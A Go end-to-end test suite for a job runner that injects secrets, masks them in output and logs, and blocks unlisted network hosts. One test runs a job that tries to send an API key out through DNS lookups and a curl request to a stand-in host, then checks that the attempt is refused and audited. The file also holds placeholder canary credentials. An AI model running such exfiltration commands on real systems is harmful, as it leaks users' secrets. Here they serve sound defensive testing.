// Package test holds the whole-system tests: the real program, driven as
// people drive it.
package test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"hotcell"
	"hotcell/hotcelltest"
)

const (
	apiKey   = "sk_live_51Hx9Zq2eTyVb3"
	password = "pa$sword%20+/=&#x"
	hashed   = "$2a$10$N9qo8uLOickgx2ZMRZoMye"
)

func TestMain(m *testing.M) { os.Exit(hotcelltest.Main(m)) }

const dotenv = "# what billing needs\nexport API_KEY=" + apiKey + "\nPASSWORD='" + password + "'\nHASH=" + hashed + " # not a comment before\n"

func file(t *testing.T, name, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// eventually waits for something that happens by itself.
func eventually(t *testing.T, what string, fn func() bool) {
	t.Helper()
	for range 600 {
		if fn() {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("it never happened: %s", what)
}

func job(t *testing.T, s *hotcelltest.Server, id string) hotcell.Job {
	t.Helper()
	var j hotcell.Job
	if err := json.Unmarshal([]byte(s.OK("jobs", "show", id, "-o", "json")), &j); err != nil {
		t.Fatal(err)
	}
	return j
}

func TestTheFirstFiveMinutes(t *testing.T) {
	t.Parallel()
	s := hotcelltest.Start(t, "")
	r := s.Run("secrets", "create", "billing", "--env-file", file(t, ".env", dotenv))
	if r.Code != 0 || !strings.Contains(r.Err, "3 variables") {
		t.Fatalf("%+v", r)
	}
	folder := t.TempDir()
	script := `import os, sys, json
print("arguments", sys.argv[1:])
print("lengths", len(os.environ["API_KEY"]), len(os.environ["PASSWORD"]), len(os.environ["HASH"]))
print("key", os.environ["API_KEY"])
print(os.environ["PASSWORD"], file=sys.stderr)
open("out/report.json", "w").write(json.dumps({"key": os.environ["API_KEY"]}))
sys.exit(7)
`
	if err := os.WriteFile(filepath.Join(folder, "report.py"), []byte(script), 0o600); err != nil {
		t.Fatal(err)
	}
	s.OK("assignments", "create", "report", "--command", "python3 report.py", "--files", folder, "--allow", "api.acme.test:8443", "--timeout", "10m")
	s.OK("assignments", "attach", "report", "billing")
	r = s.Run("run", "report", "--", "--month", "2026-11")
	if r.Code != 7 {
		t.Errorf("exit code %d, want the job's 7\n%s%s", r.Code, r.Out, r.Err)
	}
	want := fmt.Sprintf("arguments ['--month', '2026-11']\nlengths %d %d %d\nkey [hotcell:billing]\n", len(apiKey), len(password), len(hashed))
	if r.Out != want {
		t.Errorf("its output:\n%s\nwant:\n%s", r.Out, want)
	}
	if !strings.Contains(r.Err, "[hotcell:billing]\n") {
		t.Errorf("its errors: %s", r.Err)
	}
	id := s.OK("run", "report", "--detach", "--", "again")
	eventually(t, "the second job ends", func() bool { return job(t, s, id).State.Final() })
	if log := s.Run("jobs", "logs", "-f", id); !strings.Contains(log.Out, "['again']") {
		t.Errorf("its log: %+v", log)
	}
	out := t.TempDir()
	s.OK("jobs", "out", id, "-d", out)
	if text, err := os.ReadFile(filepath.Join(out, "report.json")); err != nil || string(text) != `{"key": "[hotcell:billing]"}` {
		t.Errorf("its output: %s, %v", text, err)
	}
	list := s.OK("audit", "list", "--job", id)
	for _, kind := range []string{"job.create", "job.start", "secret.lease", "job.end"} {
		if !strings.Contains(list, kind) {
			t.Errorf("the audit log has no %s:\n%s", kind, list)
		}
	}
	if verified := s.OK("audit", "verify"); !strings.Contains(verified, "unbroken") {
		t.Error(verified)
	}
	s.Canaries(apiKey, password, hashed)
	s.Stop()
	s.Canaries(apiKey, password, hashed)
}

func TestKilledAndStartedAgain(t *testing.T) {
	t.Parallel()
	s := hotcelltest.Start(t, "jobs: {concurrency: 1}\n")
	s.OK("secrets", "create", "billing", "--env-file", file(t, ".env", dotenv))
	s.OK("assignments", "create", "long", "--command", "sleep 1000")
	s.OK("assignments", "attach", "long", "billing")
	s.OK("assignments", "create", "short", "--command", "echo once")
	running := s.OK("run", "long", "--detach")
	eventually(t, "the long job runs", func() bool { return job(t, s, running).State == hotcell.JobRunning })
	var queued []string
	for range 5 {
		queued = append(queued, s.OK("run", "short", "--detach"))
	}
	var left struct{ Cgroup string }
	lock, err := os.ReadFile(filepath.Join(s.Data, "serve.lock"))
	if err := errors.Join(err, json.Unmarshal(lock, &left)); err != nil || left.Cgroup == "" {
		t.Fatalf("the lock: %s, %v", lock, err)
	}
	s.Kill()
	s.Restart()
	eventually(t, "the cgroup that was left behind is gone", func() bool {
		_, err := os.Stat(filepath.Join("/sys/fs/cgroup/memory", left.Cgroup))
		return err != nil
	})
	if j := job(t, s, running); j.State != hotcell.JobLost || j.Reason == "" {
		t.Errorf("the job that ran is %s: %s", j.State, j.Reason)
	}
	for _, id := range queued {
		eventually(t, "a queued job ends", func() bool { return job(t, s, id).State.Final() })
		if log := s.OK("jobs", "logs", id); job(t, s, id).State != hotcell.JobSucceeded || log != "once" {
			t.Errorf("a queued job is %s, its log %q", job(t, s, id).State, log)
		}
	}
	starts := strings.Count(s.OK("audit", "list", "--kind", "job.start", "--limit", "1000"), "job.start")
	if starts != 6 {
		t.Errorf("%d starts are in the audit log, want 6: each job once", starts)
	}
	if r := s.Run("audit", "verify"); r.Code != 0 {
		t.Errorf("the audit log: %+v", r)
	}
	s.Canaries(apiKey, password, hashed)
}

// part finds a part of the server by the hidden command that it runs.
func part(t *testing.T, s *hotcelltest.Server, name string) int {
	t.Helper()
	found, _ := filepath.Glob("/proc/[0-9]*/stat")
	for _, path := range found {
		text, err := os.ReadFile(path)
		if err != nil {
			continue
		}
		fields := strings.Fields(string(text[bytes.LastIndexByte(text, ')')+1:]))
		line, _ := os.ReadFile(filepath.Join(filepath.Dir(path), "cmdline"))
		if fields[1] == strconv.Itoa(s.PID()) && strings.Contains(string(line), name) {
			pid, _ := strconv.Atoi(filepath.Base(filepath.Dir(path)))
			return pid
		}
	}
	t.Fatalf("there is no %s", name)
	return 0
}

func TestTheVaultDiesAndNoJobWithIt(t *testing.T) {
	t.Parallel()
	s := hotcelltest.Start(t, "")
	s.OK("secrets", "create", "billing", "--env-file", file(t, ".env", dotenv))
	s.OK("assignments", "create", "long", "--command", "sleep 3; echo done")
	s.OK("assignments", "attach", "long", "billing")
	id := s.OK("run", "long", "--detach")
	eventually(t, "the job runs", func() bool { return job(t, s, id).State == hotcell.JobRunning })
	old := part(t, s, "part-vault")
	if err := syscall.Kill(old, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the vault answers again", func() bool { return s.Run("secrets", "list").Code == 0 && part(t, s, "part-vault") != old })
	eventually(t, "the job ends", func() bool { return job(t, s, id).State.Final() })
	if j := job(t, s, id); j.State != hotcell.JobSucceeded {
		t.Errorf("the job is %s: %s", j.State, j.Reason)
	}
	if r := s.Run("audit", "verify"); r.Code != 0 {
		t.Errorf("the audit log: %+v", r)
	}
}

func TestTheWorkerDiesAndItsJobsAreLost(t *testing.T) {
	t.Parallel()
	s := hotcelltest.Start(t, "")
	s.OK("assignments", "create", "long", "--command", "sleep 1000")
	s.OK("assignments", "create", "short", "--command", "echo fine")
	id := s.OK("run", "long", "--detach")
	eventually(t, "the job runs", func() bool { return job(t, s, id).State == hotcell.JobRunning })
	if err := syscall.Kill(part(t, s, "part-worker"), syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the job is lost", func() bool { return job(t, s, id).State == hotcell.JobLost })
	eventually(t, "jobs run again", func() bool { return s.Run("run", "short").Out == "fine\n" })
}

func TestCancelReachesEveryProcess(t *testing.T) {
	t.Parallel()
	s := hotcelltest.Start(t, "")
	marker := fmt.Sprintf("98765.%d", os.Getpid())
	s.OK("assignments", "create", "tree", "--command", "setsid sleep "+marker+" & (sleep "+marker+" &) ; trap '' TERM INT; sleep "+marker)
	id := s.OK("run", "tree", "--detach")
	count := func() int {
		n := 0
		found, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, path := range found {
			if text, _ := os.ReadFile(path); strings.HasPrefix(string(text), "sleep\x00"+marker) {
				n++
			}
		}
		return n
	}
	eventually(t, "three processes run", func() bool { return count() == 3 })
	s.OK("jobs", "cancel", id)
	eventually(t, "the job is cancelled", func() bool { return job(t, s, id).State == hotcell.JobCancelled })
	eventually(t, "no process is left", func() bool { return count() == 0 })
	if r := s.Run("jobs", "cancel", id); r.Code != 5 {
		t.Errorf("cancelling it again: %+v", r)
	}
}

func TestTimeLimit(t *testing.T) {
	t.Parallel()
	s := hotcelltest.Start(t, "")
	s.OK("assignments", "create", "slow", "--command", "sleep 1000", "--timeout", "1s")
	r := s.Run("run", "slow")
	if r.Code != 1 || !strings.Contains(r.Err, "timed out") || !strings.Contains(r.Err, "1s") {
		t.Errorf("%+v", r)
	}
}

func TestANameIsNoWayOut(t *testing.T) {
	t.Parallel()
	s := hotcelltest.Start(t, "")
	s.OK("secrets", "create", "billing", "--env-file", file(t, ".env", dotenv))
	s.OK("assignments", "create", "leak", "--command",
		`getent hosts "$API_KEY.example.com"; getent hosts "x-$API_KEY"; curl -sS --max-time 5 "https://$API_KEY.example.com/" -x http://127.0.0.1:3128; getent hosts plain.example; python3 -c 'import socket; socket.create_connection(("192.0.2.77", 443))'; true`)
	s.OK("assignments", "attach", "leak", "billing")
	said := s.Run("run", "leak").Err
	for _, want := range []string{"hotcell: plain.example was refused: the name is not in", "hotcell: 192.0.2.77:443 was refused: the address is not in"} {
		if !strings.Contains(said, want) {
			t.Errorf("the job's log has no %q:\n%s", want, said)
		}
	}
	if held := hotcelltest.Holds([]byte(said), apiKey); held != "" {
		t.Errorf("the job's log holds a value as %s:\n%s", held, said)
	}
	list := s.OK("audit", "list", "--kind", "network.refuse")
	if !strings.Contains(list, "[hotcell:billing].example.com") || !strings.Contains(list, "plain.example") || !strings.Contains(list, "192.0.2.77:443") {
		t.Errorf("the refusals:\n%s", list)
	}
	if hotcelltest.Holds([]byte(list), apiKey) != "" {
		t.Errorf("the audit log holds a value:\n%s", list)
	}
	s.Canaries(apiKey, password, hashed)
}
